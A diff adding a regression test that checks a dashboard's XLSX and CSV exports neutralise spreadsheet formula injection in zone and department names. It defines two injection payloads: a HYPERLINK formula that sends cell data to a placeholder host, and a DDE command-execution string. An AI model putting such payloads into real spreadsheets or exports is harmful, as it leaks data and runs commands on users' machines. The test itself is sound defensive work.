@@ -3,6 +3,7 @@ pages and exports, and bad input (French message, 400 or 404, never 500)."""
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import html
 import io
@@ -16,6 +17,7 @@ from openpyxl import load_workbook
 from solidarite.annuaire.models import LieuSolidaire
 from solidarite.pilotage import indicateurs
 from solidarite.pilotage.indicateurs import Filtre
+from solidarite.territoire.models import Departement, Epci
 from tests.factories import agent_ars, lieu, zone_commune
 from tests.pilotage.conftest import OCT, worked_days
 
@@ -131,6 +133,32 @@ def test_exports_of_every_table_as_csv_and_xlsx(world) -> None:  # type: ignore[
         f["properties"] for f in zones["features"] if f["properties"]["zone"] == world["a"].epci.siren
     )
     assert props["jours_couverts"] == 12 and "rdv_reserves" not in props
+
+
+FORMULA_NAME = '=HYPERLINK("http://exemple.invalid/?x="&A2,"Moreau")'
+FORMULA_DEPARTEMENT = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def test_a_name_written_as_a_formula_stays_a_text_in_the_exports(world) -> None:  # type: ignore[no-untyped-def]
+    """The probe of 6 December: the names of the tables (a zone's, a department's, from the data files or the
+    admin) were written as they are, a name « =HYPERLINK(…) » a live formula in the XLSX. Now a text cell, and an
+    apostrophe in the CSV; the figures stay numbers."""
+    Epci.objects.filter(pk=world["a"].epci.pk).update(nom=FORMULA_NAME)
+    Departement.objects.filter(pk=world["a"].departement.pk).update(nom=FORMULA_DEPARTEMENT)
+    indicateurs._zones.cache_clear()  # the zones' names are read once per process (reference data)
+    try:
+        client = _admin()
+        for niveau, name in (("zones", FORMULA_NAME), ("departements", FORMULA_DEPARTEMENT)):
+            url = f"/pilotage/export/{niveau}.xlsx?du=2026-10&au=2026-12"
+            cells = [c for row in load_workbook(io.BytesIO(client.get(url).content)).active for c in row]
+            assert not [c.coordinate for c in cells if c.data_type == "f"], niveau
+            assert [(c.value, c.data_type) for c in cells if c.value == name] == [(name, "s")], niveau
+            assert any(c.data_type == "n" and c.value for c in cells), niveau  # the figures are numbers
+            text = client.get(f"/pilotage/gestion/export/{niveau}.csv?du=2026-10&au=2026-12").content.decode()
+            rows = list(csv.DictReader(io.StringIO(text)))
+            assert ["'" + name] == [r["nom"] for r in rows if name in r["nom"]], niveau
+    finally:
+        indicateurs._zones.cache_clear()  # the rolled-back name must not outlive the test
 
 
 @pytest.mark.parametrize(
